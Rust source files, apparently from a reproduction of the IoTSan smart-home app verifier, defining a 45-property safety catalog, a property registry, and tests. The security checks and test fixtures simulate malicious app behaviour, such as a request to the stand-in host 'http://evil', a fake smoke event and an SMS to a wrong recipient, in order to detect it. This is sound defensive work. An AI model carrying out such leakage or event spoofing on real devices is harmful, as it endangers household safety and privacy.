    /// Number of properties.
    pub fn len(&self) -> usize {
        self.properties.len()
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.properties.is_empty()
    }

    /// Looks up a property by id.
    pub fn get(&self, id: PropertyId) -> Option<&Property> {
        self.properties.iter().find(|p| p.id == id)
    }

    /// Evaluates the physical-state invariants against a snapshot, returning
    /// the ids of violated properties.
    pub fn check_snapshot(&self, snapshot: &Snapshot) -> Vec<PropertyId> {
        // The shared device scans are computed once per snapshot; each of the
        // 38 invariants then evaluates pure boolean logic over them.
        let facts = crate::invariant::SnapshotFacts::new(snapshot);
        self.properties
            .iter()
            .filter_map(|p| match &p.kind {
                PropertyKind::Invariant(inv) if inv.is_violated_with(&facts) => Some(p.id),
                _ => None,
            })
            .collect()
    }

    /// Evaluates the step-based properties (commands, security, robustness)
    /// against what happened during one external-event step.
    pub fn check_step(&self, step: &StepObservation) -> Vec<PropertyId> {
        self.properties
            .iter()
            .filter_map(|p| {
                let violated = match &p.kind {
                    PropertyKind::Invariant(_) => false,
                    PropertyKind::ConflictingCommands => has_conflicting_commands(step),
                    PropertyKind::RepeatedCommands => has_repeated_commands(step),
                    PropertyKind::NetworkLeakage => step.network.iter().any(|n| !n.allowed),
                    PropertyKind::SmsRecipientMismatch => step.sms_recipient_mismatch(),
                    PropertyKind::UnsubscribeExecuted => !step.unsubscribes.is_empty(),
                    PropertyKind::FakeEventRaised => !step.fake_events.is_empty(),
                    PropertyKind::RobustToFailure => {
                        step.command_failures > 0 && step.messages.is_empty()
                    }
                };
                violated.then_some(p.id)
            })
            .collect()
    }
}

/// Commands that cancel each other when sent to the same actuator.
const CONFLICTING_PAIRS: &[(&str, &str)] = &[
    ("on", "off"),
    ("lock", "unlock"),
    ("open", "close"),
    ("siren", "off"),
    ("strobe", "off"),
    ("both", "off"),
    ("heat", "cool"),
    ("play", "stop"),
    ("mute", "unmute"),
];

/// True when one actuator received two conflicting commands in the step.
pub fn has_conflicting_commands(step: &StepObservation) -> bool {
    // Direct pair scan (same device, i < j): equivalent to grouping by
    // device first, but allocation-free — this runs on every explored
    // transition and step command counts are tiny.
    let cmds = &step.commands;
    for i in 0..cmds.len() {
        for j in (i + 1)..cmds.len() {
            if cmds[i].device != cmds[j].device {
                continue;
            }
            let a = cmds[i].command.as_str();
            let b = cmds[j].command.as_str();
            if CONFLICTING_PAIRS.iter().any(|(x, y)| (a == *x && b == *y) || (a == *y && b == *x)) {
                return true;
            }
        }
    }
    false
}

/// True when one actuator received the same command more than once in the step.
pub fn has_repeated_commands(step: &StepObservation) -> bool {
    let cmds = &step.commands;
    for i in 0..cmds.len() {
        for j in (i + 1)..cmds.len() {
            if cmds[i].device == cmds[j].device && cmds[i].command == cmds[j].command {
                return true;
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::snapshot::{
        CommandRecord, FakeEventRecord, MessageChannel, MessageRecord, NetworkRecord,
    };
    use iotsan_devices::DeviceId;

    fn cmd(device: u32, command: &str) -> CommandRecord {
        CommandRecord {
            app: "A".into(),
            handler: "h".into(),
            device: DeviceId(device),
            device_label: format!("dev{device}"),
            command: command.into(),
            delivered: true,
            changed_state: true,
        }
    }

    #[test]
    fn catalog_has_forty_five_properties() {
        let props = default_properties();
        assert_eq!(props.len(), 45);
        // 1 conflicting + 1 repeated + 38 physical + 4 security + 1 robustness.
        let count = |class: PropertyClass| props.iter().filter(|p| p.class == class).count();
        assert_eq!(count(PropertyClass::ConflictingCommands), 1);
        assert_eq!(count(PropertyClass::RepeatedCommands), 1);
        assert_eq!(count(PropertyClass::PhysicalState), 38);
        assert_eq!(count(PropertyClass::Security), 4);
        assert_eq!(count(PropertyClass::Robustness), 1);
    }

    #[test]
    fn ids_are_unique_and_ordered() {
        let props = default_properties();
        let mut ids: Vec<u32> = props.iter().map(|p| p.id.0).collect();
        let sorted = ids.clone();
        ids.dedup();
        assert_eq!(ids.len(), props.len());
        assert_eq!(ids, sorted);
    }

    #[test]
    fn conflicting_commands_detected() {
        let step =
            StepObservation { commands: vec![cmd(0, "on"), cmd(0, "off")], ..Default::default() };
        assert!(has_conflicting_commands(&step));
        // Different devices do not conflict.
        let step =
            StepObservation { commands: vec![cmd(0, "on"), cmd(1, "off")], ..Default::default() };
        assert!(!has_conflicting_commands(&step));
        // Same direction commands do not conflict (they repeat).
        let step =
            StepObservation { commands: vec![cmd(0, "on"), cmd(0, "on")], ..Default::default() };
        assert!(!has_conflicting_commands(&step));
        assert!(has_repeated_commands(&step));
    }

    #[test]
    fn lock_unlock_conflicts() {
        let step = StepObservation {
            commands: vec![cmd(3, "unlock"), cmd(3, "lock")],
            ..Default::default()
        };
        assert!(has_conflicting_commands(&step));
    }

    #[test]
    fn property_set_checks_step_properties() {
        let set = PropertySet::all();
        let step = StepObservation {
            commands: vec![cmd(0, "on"), cmd(0, "off"), cmd(1, "lock"), cmd(1, "lock")],
            network: vec![NetworkRecord {
                app: "A".into(),
                url: "http://evil".into(),
                allowed: false,
            }],
            fake_events: vec![FakeEventRecord {
                app: "A".into(),
                attribute: "smoke".into(),
                value: "detected".into(),
            }],
            unsubscribes: vec!["A".into()],
            messages: vec![MessageRecord {
                app: "A".into(),
                channel: MessageChannel::Sms,
                recipient: "999".into(),
                body: "b".into(),
            }],
            configured_recipients: vec!["555".into()],
            command_failures: 0,
        };
        let violated = set.check_step(&step);
        // Conflicting, repeated, network leakage, sms mismatch, unsubscribe, fake event.
        assert_eq!(violated.len(), 6);
    }

    #[test]
    fn robustness_violation_requires_failure_without_notification() {
        let set = PropertySet::all();
        let step = StepObservation { command_failures: 1, ..Default::default() };
        let violated = set.check_step(&step);
        assert_eq!(violated.len(), 1);
        // With a notification the property holds.
        let step = StepObservation {
            command_failures: 1,
            messages: vec![MessageRecord {
                app: "A".into(),
                channel: MessageChannel::Push,
                recipient: String::new(),
                body: "device offline".into(),
            }],
            ..Default::default()
        };
        assert!(set.check_step(&step).is_empty());
    }

    #[test]
    fn snapshot_checking_reports_physical_ids() {
        use crate::snapshot::{DeviceRole, DeviceSnapshot};
        use iotsan_ir::Value;
        let set = PropertySet::all();
        let snap = Snapshot {
            mode: "Away".into(),
            devices: vec![DeviceSnapshot {
                id: DeviceId(0),
                label: "frontDoor".into(),
                capability: "lock".into(),
                role: DeviceRole::MainDoorLock,
                attributes: vec![("lock".into(), Value::Str("unlocked".into()))],
                online: true,
            }],
            time_seconds: 0,
        };
        let violated = set.check_snapshot(&snap);
        assert!(!violated.is_empty());
        for id in &violated {
            assert_eq!(set.get(*id).unwrap().class, PropertyClass::PhysicalState);
        }
    }

    #[test]
    fn selection_filters_by_id() {
        let set = PropertySet::selection(&[PropertyId(1), PropertyId(2)]);
        assert_eq!(set.len(), 2);
        assert!(set.get(PropertyId(1)).is_some());
        assert!(set.get(PropertyId(10)).is_none());
    }

    #[test]
    fn every_property_has_an_ltl_form() {
        for p in default_properties() {
            let ltl = p.to_ltl();
            assert!(ltl.contains("[]"), "{}: {ltl}", p.name);
        }
    }

    #[test]
    fn property_id_display() {
        assert_eq!(PropertyId(7).to_string(), "P07");
        assert_eq!(PropertyClass::PhysicalState.label(), "Unsafe physical states");
    }
}
