//! The paper's 45-property corpus (§8, Table 4), expressed through the open
//! [`PropertySpec`] API.
//!
//! Every built-in is plain spec data — the same language user-defined
//! properties use — so the whole corpus roundtrips through JSON, compiles to
//! slot-indexed evaluators, and renders its Promela `ltl` blocks from the
//! spec itself.  Each spec pins the paper's exact LTL proposition via
//! [`PropertySpec::ltl`]; the golden tests in `tests/property_spec.rs` assert
//! the renderings and the violated sets on the repro workloads are identical
//! to the pre-redesign enum catalog.

use crate::spec::{Atom, DeviceSelect, Expr, PropertyClass, PropertySpec};

// ---------------------------------------------------------------------------
// Shared sub-formulas (the old `SnapshotFacts` fields, now plain exprs)
// ---------------------------------------------------------------------------

fn not_home() -> Expr {
    Expr::not(Expr::anyone_home())
}

fn sleeping() -> Expr {
    Expr::mode_is("Night")
}

fn away() -> Expr {
    Expr::mode_is("Away")
}

fn smoke() -> Expr {
    Expr::capability_attr("smokeDetector", "smoke", "detected")
}

fn co() -> Expr {
    Expr::capability_attr("carbonMonoxideDetector", "carbonMonoxide", "detected")
}

fn leak() -> Expr {
    Expr::capability_attr("waterSensor", "water", "wet")
}

fn motion() -> Expr {
    Expr::capability_attr("motionSensor", "motion", "active")
}

fn intruder() -> Expr {
    Expr::and([not_home(), motion()])
}

fn danger() -> Expr {
    Expr::or([smoke(), co(), intruder(), leak()])
}

fn heater_on() -> Expr {
    Expr::role_attr("heater", "switch", "on")
}

fn ac_on() -> Expr {
    Expr::role_attr("ac", "switch", "on")
}

fn light_on() -> Expr {
    Expr::role_attr("light", "switch", "on")
}

fn appliance_on() -> Expr {
    Expr::role_attr("appliance", "switch", "on")
}

fn alarm_active() -> Expr {
    Expr::or([
        Expr::capability_attr("alarm", "alarm", "siren"),
        Expr::capability_attr("alarm", "alarm", "strobe"),
        Expr::capability_attr("alarm", "alarm", "both"),
    ])
}

fn main_lock_unlocked() -> Expr {
    Expr::role_attr("main door lock", "lock", "unlocked")
}

fn any_lock_unlocked() -> Expr {
    Expr::capability_attr("lock", "lock", "unlocked")
}

fn entrance_open() -> Expr {
    Expr::or([
        Expr::capability_attr("doorControl", "door", "open"),
        Expr::capability_attr("garageDoorControl", "door", "open"),
    ])
}

fn garage_open() -> Expr {
    Expr::capability_attr("garageDoorControl", "door", "open")
}

fn any_present() -> Expr {
    Expr::capability_attr("presenceSensor", "presence", "present")
}

fn all_not_present() -> Expr {
    Expr::all_attr(DeviceSelect::capability("presenceSensor"), "presence", "not present")
}

fn has(select: DeviceSelect) -> Expr {
    Expr::has_device(select)
}

fn temp_below(threshold: f64) -> Expr {
    Expr::any_below(DeviceSelect::any(), "temperature", threshold)
}

fn temp_above(threshold: f64) -> Expr {
    Expr::any_above(DeviceSelect::any(), "temperature", threshold)
}

fn spec(
    id: u32,
    name: &str,
    category: &str,
    class: PropertyClass,
    ltl: &str,
    unsafe_when: Expr,
) -> PropertySpec {
    PropertySpec::builder(id, name).category(category).class(class).ltl(ltl).never(unsafe_when)
}

fn physical(
    id: u32,
    name: &str,
    category: &str,
    proposition: &str,
    unsafe_when: Expr,
) -> PropertySpec {
    spec(
        id,
        name,
        category,
        PropertyClass::PhysicalState,
        &format!("[] !( {proposition} )"),
        unsafe_when,
    )
}

/// The full paper corpus: 1 conflicting-commands + 1 repeated-commands +
/// 38 physical-state invariants + 4 security + 1 robustness property, with
/// the same ids (1..=45), names, categories and LTL renderings as the
/// original closed catalog.
pub fn paper_properties() -> Vec<PropertySpec> {
    const THERMO: &str = "Thermostat, AC, and Heater";
    const LOCK: &str = "Lock and door control";
    const MODE: &str = "Location mode";
    const ALARM: &str = "Security and alarming";
    const WATER: &str = "Water and sprinkler";
    const OTHERS: &str = "Others";

    vec![
        spec(
            1,
            "An actuator should not receive conflicting commands from a single event",
            "Conflicting commands",
            PropertyClass::ConflictingCommands,
            "[] !(conflicting_commands)",
            Expr::atom(Atom::ConflictingCommands),
        ),
        spec(
            2,
            "An actuator should not receive repeated commands from a single event",
            "Repeated commands",
            PropertyClass::RepeatedCommands,
            "[] !(repeated_commands)",
            Expr::atom(Atom::RepeatedCommands),
        ),
        // -- Thermostat, AC and heater (5) -----------------------------------
        physical(
            3,
            "Temperature should be within [50, 90] when people are at home",
            THERMO,
            "anyone_home && (temperature < 50 || temperature > 90)",
            Expr::and([Expr::anyone_home(), Expr::or([temp_below(50.0), temp_above(90.0)])]),
        ),
        physical(
            4,
            "A heater should not be off when temperature is below 50",
            THERMO,
            "anyone_home && temperature < 50 && heater == off",
            Expr::and([
                Expr::anyone_home(),
                has(DeviceSelect::role("heater")),
                temp_below(50.0),
                Expr::not(heater_on()),
            ]),
        ),
        physical(
            5,
            "A heater should not be on when temperature is above 85",
            THERMO,
            "temperature > 85 && heater == on",
            Expr::and([heater_on(), temp_above(85.0)]),
        ),
        physical(
            6,
            "An AC and a heater should not both be turned on",
            THERMO,
            "heater == on && ac == on",
            Expr::and([heater_on(), ac_on()]),
        ),
        physical(
            7,
            "An AC should not be on when temperature is below 50",
            THERMO,
            "temperature < 50 && ac == on",
            Expr::and([ac_on(), temp_below(50.0)]),
        ),
        // -- Lock and door control (8) ----------------------------------------
        physical(
            8,
            "The main door should be locked when no one is at home",
            LOCK,
            "!anyone_home && main_door == unlocked",
            Expr::and([not_home(), main_lock_unlocked()]),
        ),
        physical(
            9,
            "The main door should be locked when people are sleeping at night",
            LOCK,
            "mode == Night && main_door == unlocked",
            Expr::and([sleeping(), main_lock_unlocked()]),
        ),
        physical(
            10,
            "Entrance doors should be closed when no one is at home",
            LOCK,
            "!anyone_home && entrance_door == open",
            Expr::and([not_home(), entrance_open()]),
        ),
        physical(
            11,
            "Entrance doors should be closed when people are sleeping",
            LOCK,
            "mode == Night && entrance_door == open",
            Expr::and([sleeping(), entrance_open()]),
        ),
        physical(
            12,
            "No lock should be unlocked in Away mode",
            LOCK,
            "mode == Away && any_lock == unlocked",
            Expr::and([away(), any_lock_unlocked()]),
        ),
        physical(
            13,
            "The garage door should be closed at night",
            LOCK,
            "mode == Night && garage_door == open",
            Expr::and([sleeping(), garage_open()]),
        ),
        physical(
            14,
            "All locks should be locked when no one is at home",
            LOCK,
            "!anyone_home && any_lock == unlocked",
            Expr::and([not_home(), any_lock_unlocked()]),
        ),
        physical(
            15,
            "The main door should not be unlocked when motion is detected and no one is home",
            LOCK,
            "!anyone_home && motion == active && main_door == unlocked",
            Expr::and([intruder(), main_lock_unlocked()]),
        ),
        // -- Location mode (3) -------------------------------------------------
        physical(
            16,
            "Location mode should be changed to Away when no one is at home",
            MODE,
            "all_not_present && mode != Away",
            Expr::and([
                has(DeviceSelect::capability("presenceSensor")),
                all_not_present(),
                Expr::not(away()),
            ]),
        ),
        physical(
            17,
            "Location mode should not be Away when someone is at home",
            MODE,
            "any_present && mode == Away",
            Expr::and([any_present(), away()]),
        ),
        physical(
            18,
            "Location mode should not be Night when no one is at home",
            MODE,
            "all_not_present && mode == Night",
            Expr::and([
                has(DeviceSelect::capability("presenceSensor")),
                all_not_present(),
                sleeping(),
            ]),
        ),
        // -- Security and alarming (14) ----------------------------------------
        physical(
            19,
            "An alarm should strobe/siren when detecting smoke",
            ALARM,
            "smoke == detected && alarm == off",
            Expr::and([smoke(), has(DeviceSelect::capability("alarm")), Expr::not(alarm_active())]),
        ),
        physical(
            20,
            "An alarm should strobe/siren when detecting carbon monoxide",
            ALARM,
            "co == detected && alarm == off",
            Expr::and([co(), has(DeviceSelect::capability("alarm")), Expr::not(alarm_active())]),
        ),
        physical(
            21,
            "An alarm should sound when an intruder is detected",
            ALARM,
            "!anyone_home && motion == active && alarm == off",
            Expr::and([
                intruder(),
                has(DeviceSelect::capability("alarm")),
                Expr::not(alarm_active()),
            ]),
        ),
        physical(
            22,
            "The alarm should not sound when there is no danger",
            ALARM,
            "alarm != off && !danger",
            Expr::and([alarm_active(), Expr::not(danger())]),
        ),
        physical(
            23,
            "The alarm should be silent at night unless there is danger",
            ALARM,
            "mode == Night && alarm != off && !danger",
            Expr::and([sleeping(), alarm_active(), Expr::not(danger())]),
        ),
        physical(
            24,
            "The main door should be unlocked during a fire when people are home",
            ALARM,
            "smoke == detected && anyone_home && main_door == locked",
            Expr::and([
                smoke(),
                Expr::anyone_home(),
                has(DeviceSelect::role("main door lock")),
                Expr::not(main_lock_unlocked()),
            ]),
        ),
        physical(
            25,
            "Doors should be openable when carbon monoxide is detected",
            ALARM,
            "co == detected && anyone_home && main_door == locked",
            Expr::and([
                co(),
                Expr::anyone_home(),
                has(DeviceSelect::role("main door lock")),
                Expr::not(main_lock_unlocked()),
            ]),
        ),
        physical(
            26,
            "The water valve should not be closed when smoke is detected",
            ALARM,
            "smoke == detected && valve == closed",
            Expr::and([smoke(), Expr::capability_attr("valve", "valve", "closed")]),
        ),
        physical(
            27,
            "Lights should turn on during a fire at night",
            ALARM,
            "smoke == detected && mode == Night && lights == off",
            Expr::and([
                smoke(),
                sleeping(),
                has(DeviceSelect::role("light")),
                Expr::not(light_on()),
            ]),
        ),
        physical(
            28,
            "Smoke and CO detectors should be online",
            ALARM,
            "smoke_detector_offline || co_detector_offline",
            Expr::or([
                Expr::any_offline(DeviceSelect::capability("smokeDetector")),
                Expr::any_offline(DeviceSelect::capability("carbonMonoxideDetector")),
            ]),
        ),
        physical(
            29,
            "A camera should capture when an intruder is detected",
            ALARM,
            "!anyone_home && motion == active && camera == idle",
            Expr::and([
                intruder(),
                has(DeviceSelect::capability("imageCapture")),
                Expr::not(Expr::capability_attr("imageCapture", "image", "captured")),
            ]),
        ),
        physical(
            30,
            "Appliances should be off when smoke is detected",
            ALARM,
            "smoke == detected && appliance == on",
            Expr::and([smoke(), appliance_on()]),
        ),
        physical(
            31,
            "Fans should be off when smoke is detected",
            ALARM,
            "smoke == detected && fan == on",
            Expr::and([smoke(), Expr::capability_attr("fanControl", "switch", "on")]),
        ),
        physical(
            32,
            "Heaters should be off when smoke is detected",
            ALARM,
            "smoke == detected && heater == on",
            Expr::and([smoke(), heater_on()]),
        ),
        // -- Water and sprinkler (3) -------------------------------------------
        physical(
            33,
            "Soil moisture should be within [20, 80]",
            WATER,
            "moisture < 20 || moisture > 80",
            Expr::or([
                Expr::any_below(DeviceSelect::capability("soilMoisture"), "moisture", 20.0),
                Expr::any_above(DeviceSelect::capability("soilMoisture"), "moisture", 80.0),
            ]),
        ),
        physical(
            34,
            "The sprinkler should be off when rain/moisture is detected",
            WATER,
            "water == wet && sprinkler == on",
            Expr::and([leak(), Expr::capability_attr("sprinkler", "sprinkler", "on")]),
        ),
        physical(
            35,
            "The water valve should be closed when a leak is detected",
            WATER,
            "water == wet && valve == open",
            Expr::and([leak(), Expr::capability_attr("valve", "valve", "open")]),
        ),
        // -- Others (5) ---------------------------------------------------------
        physical(
            36,
            "Lights should not be on when no one is at home",
            OTHERS,
            "!anyone_home && lights == on",
            Expr::and([not_home(), light_on()]),
        ),
        physical(
            37,
            "Appliances should not be on when no one is at home",
            OTHERS,
            "!anyone_home && appliance == on",
            Expr::and([not_home(), appliance_on()]),
        ),
        physical(
            38,
            "Appliances should not be on while people are sleeping",
            OTHERS,
            "mode == Night && appliance == on",
            Expr::and([sleeping(), appliance_on()]),
        ),
        physical(
            39,
            "Lights should be off while people are sleeping",
            OTHERS,
            "mode == Night && lights == on",
            Expr::and([sleeping(), light_on()]),
        ),
        physical(
            40,
            "Speakers should not be playing while people are sleeping",
            OTHERS,
            "mode == Night && speaker == playing",
            Expr::and([sleeping(), Expr::capability_attr("musicPlayer", "status", "playing")]),
        ),
        // -- Security (4) -------------------------------------------------------
        spec(
            41,
            "Private information is sent out only via message interfaces, not network interfaces",
            "Security",
            PropertyClass::Security,
            "[] !(http_request && !user_allowed)",
            Expr::atom(Atom::DisallowedNetwork),
        ),
        spec(
            42,
            "SMS recipients match the configured phone numbers",
            "Security",
            PropertyClass::Security,
            "[] (send_sms -> recipient == configured_phone)",
            Expr::atom(Atom::SmsRecipientMismatch),
        ),
        spec(
            43,
            "No app executes the security-sensitive unsubscribe command",
            "Security",
            PropertyClass::Security,
            "[] !(unsubscribe_executed)",
            Expr::atom(Atom::UnsubscribeCalled),
        ),
        spec(
            44,
            "No app creates fake device events",
            "Security",
            PropertyClass::Security,
            "[] !(fake_event_raised)",
            Expr::atom(Atom::FakeEventRaised),
        ),
        // -- Robustness (1) -----------------------------------------------------
        PropertySpec::builder(
            45,
            "Apps check command delivery and notify the user upon device/communication failure",
        )
        .category("Robustness")
        .class(PropertyClass::Robustness)
        .ltl("[] (command_failed -> <> user_notified)")
        .leads_to(Expr::atom(Atom::CommandFailed), Expr::atom(Atom::UserNotified), 0),
    ]
}

/// Alias kept for the pre-redesign name.
pub fn default_properties() -> Vec<PropertySpec> {
    paper_properties()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_has_forty_five_properties_with_paper_class_counts() {
        let props = paper_properties();
        assert_eq!(props.len(), 45);
        let count = |class: &PropertyClass| props.iter().filter(|p| &p.class == class).count();
        assert_eq!(count(&PropertyClass::ConflictingCommands), 1);
        assert_eq!(count(&PropertyClass::RepeatedCommands), 1);
        assert_eq!(count(&PropertyClass::PhysicalState), 38);
        assert_eq!(count(&PropertyClass::Security), 4);
        assert_eq!(count(&PropertyClass::Robustness), 1);
    }

    #[test]
    fn ids_are_one_through_forty_five_in_order() {
        let ids: Vec<u32> = paper_properties().iter().map(|p| p.id).collect();
        assert_eq!(ids, (1..=45).collect::<Vec<u32>>());
    }

    #[test]
    fn table4_category_counts_match_paper() {
        let mut counts = std::collections::BTreeMap::new();
        for p in paper_properties() {
            if p.class == PropertyClass::PhysicalState {
                *counts.entry(p.category.clone()).or_insert(0usize) += 1;
            }
        }
        assert_eq!(counts["Thermostat, AC, and Heater"], 5);
        assert_eq!(counts["Lock and door control"], 8);
        assert_eq!(counts["Location mode"], 3);
        assert_eq!(counts["Security and alarming"], 14);
        assert_eq!(counts["Water and sprinkler"], 3);
        assert_eq!(counts["Others"], 5);
    }

    #[test]
    fn every_builtin_pins_its_ltl_and_roundtrips_through_json() {
        for p in paper_properties() {
            assert!(p.ltl.is_some(), "{} has no pinned LTL", p.name);
            assert!(p.to_ltl().contains("[]"), "{}: {}", p.name, p.to_ltl());
            let back = PropertySpec::from_json(&p.to_json()).unwrap();
            assert_eq!(back, p, "{} does not roundtrip", p.name);
        }
    }

    #[test]
    fn physical_invariants_read_state_and_command_properties_do_not() {
        for p in paper_properties() {
            match p.class {
                PropertyClass::PhysicalState => assert!(p.reads_state(), "{}", p.name),
                _ => assert!(p.step_only(), "{}", p.name),
            }
        }
    }
}
