//! The property registry: the set of [`PropertySpec`]s selected for one
//! verification run.
//!
//! §8: "we provide users with an interface to select the list of safety
//! properties they want to verify" — and, in this reproduction, to *extend*
//! it: the registry is an open collection of specs (built-ins and
//! user-defined alike), serde-loadable, content-hashable for the planner's
//! verification cache, and compilable into slot-indexed evaluators with
//! [`crate::compile::CompiledPropertySet::compile`].

use crate::builtins::paper_properties;
use crate::snapshot::{Snapshot, StepObservation};
use crate::spec::{ContentHasher, PropertyClass, PropertyId, PropertySpec};
use serde::{Deserialize, Serialize};
use std::fmt;

/// The error returned when registering a spec whose id is already taken.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DuplicatePropertyId(pub PropertyId);

impl fmt::Display for DuplicatePropertyId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "property id {} is already registered", self.0)
    }
}

impl std::error::Error for DuplicatePropertyId {}

/// A set of properties selected for verification.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
pub struct PropertySet {
    specs: Vec<PropertySpec>,
}

impl PropertySet {
    /// The full paper corpus (all 45 built-in properties).
    pub fn all() -> Self {
        PropertySet { specs: paper_properties() }
    }

    /// An empty set (register custom specs with [`PropertySet::register`]).
    pub fn empty() -> Self {
        PropertySet { specs: Vec::new() }
    }

    /// The built-in properties with the listed ids.
    pub fn selection(ids: &[PropertyId]) -> Self {
        let specs =
            paper_properties().into_iter().filter(|p| ids.contains(&p.property_id())).collect();
        PropertySet { specs }
    }

    /// Builds a set from explicit specs.
    ///
    /// Ids must be unique — violations are attributed by id, so a duplicate
    /// would report under the wrong spec's name.  Debug builds assert this;
    /// use [`PropertySet::register`] / [`PropertySet::with`] for checked
    /// insertion, [`PropertySet::from_json`] for validated loading.
    pub fn from_specs(specs: Vec<PropertySpec>) -> Self {
        debug_assert!(
            Self::duplicate_id(&specs).is_none(),
            "duplicate property id {:?}",
            Self::duplicate_id(&specs)
        );
        PropertySet { specs }
    }

    /// The first id appearing more than once in `specs`, if any.
    fn duplicate_id(specs: &[PropertySpec]) -> Option<PropertyId> {
        let mut seen = std::collections::BTreeSet::new();
        specs.iter().find(|p| !seen.insert(p.id)).map(|p| p.property_id())
    }

    /// Registers an additional spec; ids must be unique within the set.
    pub fn register(&mut self, spec: PropertySpec) -> Result<(), DuplicatePropertyId> {
        if self.get(spec.property_id()).is_some() {
            return Err(DuplicatePropertyId(spec.property_id()));
        }
        self.specs.push(spec);
        Ok(())
    }

    /// Builder-style [`PropertySet::register`], panicking on duplicate ids.
    pub fn with(mut self, spec: PropertySpec) -> Self {
        self.register(spec).expect("property ids must be unique");
        self
    }

    /// The specs in the set.
    pub fn specs(&self) -> &[PropertySpec] {
        &self.specs
    }

    /// The specs in the set (pre-redesign name).
    pub fn properties(&self) -> &[PropertySpec] {
        &self.specs
    }

    /// Number of properties.
    pub fn len(&self) -> usize {
        self.specs.len()
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.specs.is_empty()
    }

    /// Looks up a property by id.
    pub fn get(&self, id: PropertyId) -> Option<&PropertySpec> {
        self.specs.iter().find(|p| p.property_id() == id)
    }

    /// The class label of a property, for evaluation tables; `None` for ids
    /// not in the set.
    pub fn class_label(&self, id: PropertyId) -> Option<&str> {
        self.get(id).map(|p| p.class.label())
    }

    /// Properties of the given class.
    pub fn by_class<'a>(
        &'a self,
        class: &'a PropertyClass,
    ) -> impl Iterator<Item = &'a PropertySpec> {
        self.specs.iter().filter(move |p| &p.class == class)
    }

    /// Evaluates the snapshot-only properties (physical-state invariants)
    /// against a physical snapshot, returning the ids of violated
    /// properties.
    ///
    /// This is the interpreted reference path; the model checker uses the
    /// compiled evaluators instead.
    pub fn check_snapshot(&self, snapshot: &Snapshot) -> Vec<PropertyId> {
        let step = StepObservation::default();
        self.specs
            .iter()
            .filter(|p| p.reads_state() && !p.reads_step())
            .filter(|p| p.violated_at(snapshot, &step))
            .map(|p| p.property_id())
            .collect()
    }

    /// Evaluates the step-only properties (commands, security, robustness)
    /// against one external-event step's observation.
    pub fn check_step(&self, step: &StepObservation) -> Vec<PropertyId> {
        let snapshot = Snapshot::default();
        self.specs
            .iter()
            .filter(|p| p.step_only())
            .filter(|p| p.violated_at(&snapshot, step))
            .map(|p| p.property_id())
            .collect()
    }

    /// Evaluates *every* property at one point where both views are visible
    /// (leads-to properties use same-step response semantics here; bounded
    /// `within` distances are the compiled evaluators' monitors).
    pub fn check_point(&self, snapshot: &Snapshot, step: &StepObservation) -> Vec<PropertyId> {
        self.specs
            .iter()
            .filter(|p| p.violated_at(snapshot, step))
            .map(|p| p.property_id())
            .collect()
    }

    /// A stable 64-bit hash of every spec's content (ids, metadata, formula
    /// ASTs).  The planner folds this into its group fingerprints, so adding
    /// or editing a property invalidates exactly the cached verdicts that
    /// were computed under a different property set.
    pub fn content_hash(&self) -> u64 {
        let mut sorted: Vec<&PropertySpec> = self.specs.iter().collect();
        sorted.sort_by_key(|p| p.id);
        let mut h = ContentHasher::new();
        h.write_u64(sorted.len() as u64);
        for spec in sorted {
            spec.hash_into(&mut h);
        }
        h.finish()
    }

    /// Serializes the whole set to pretty JSON.
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).expect("PropertySet serializes")
    }

    /// Loads a set from JSON, rejecting duplicate property ids (violations
    /// are attributed by id, so a duplicate would misreport under the first
    /// spec's name).
    pub fn from_json(json: &str) -> Result<Self, serde_json::Error> {
        let set: PropertySet = serde_json::from_str(json)?;
        if let Some(id) = Self::duplicate_id(&set.specs) {
            return Err(serde_json::Error::custom(format!(
                "duplicate property id {id} in property set"
            )));
        }
        for spec in &set.specs {
            spec.validate().map_err(serde_json::Error::custom)?;
        }
        Ok(set)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::snapshot::{
        CommandRecord, DeviceRole, DeviceSnapshot, FakeEventRecord, MessageChannel, MessageRecord,
        NetworkRecord,
    };
    use crate::spec::Expr;
    use iotsan_devices::DeviceId;
    use iotsan_ir::Value;

    fn cmd(device: u32, command: &str) -> CommandRecord {
        CommandRecord {
            app: "A".into(),
            handler: "h".into(),
            device: DeviceId(device),
            device_label: format!("dev{device}"),
            command: command.into(),
            delivered: true,
            changed_state: true,
        }
    }

    #[test]
    fn the_default_set_is_the_paper_corpus() {
        let set = PropertySet::all();
        assert_eq!(set.len(), 45);
        assert!(!set.is_empty());
        assert!(set.get(PropertyId(45)).is_some());
        assert_eq!(set.class_label(PropertyId(3)), Some("Unsafe physical states"));
        assert_eq!(set.class_label(PropertyId(99)), None);
    }

    #[test]
    fn selection_filters_by_id() {
        let set = PropertySet::selection(&[PropertyId(1), PropertyId(2)]);
        assert_eq!(set.len(), 2);
        assert!(set.get(PropertyId(1)).is_some());
        assert!(set.get(PropertyId(10)).is_none());
    }

    #[test]
    fn registration_rejects_duplicate_ids() {
        let mut set = PropertySet::all();
        let clash = PropertySpec::builder(45, "clash").never(Expr::mode_is("Away"));
        assert_eq!(set.register(clash), Err(DuplicatePropertyId(PropertyId(45))));
        let custom = PropertySpec::builder(46, "custom").never(Expr::mode_is("Away"));
        assert!(set.register(custom).is_ok());
        assert_eq!(set.len(), 46);
    }

    #[test]
    fn property_set_checks_step_properties() {
        let set = PropertySet::all();
        let step = StepObservation {
            commands: vec![cmd(0, "on"), cmd(0, "off"), cmd(1, "lock"), cmd(1, "lock")],
            network: vec![NetworkRecord {
                app: "A".into(),
                url: "http://evil".into(),
                allowed: false,
            }],
            fake_events: vec![FakeEventRecord {
                app: "A".into(),
                attribute: "smoke".into(),
                value: "detected".into(),
            }],
            unsubscribes: vec!["A".into()],
            messages: vec![MessageRecord {
                app: "A".into(),
                channel: MessageChannel::Sms,
                recipient: "999".into(),
                body: "b".into(),
            }],
            configured_recipients: vec!["555".into()],
            command_failures: 0,
        };
        let violated = set.check_step(&step);
        // Conflicting, repeated, network leakage, sms mismatch, unsubscribe,
        // fake event.
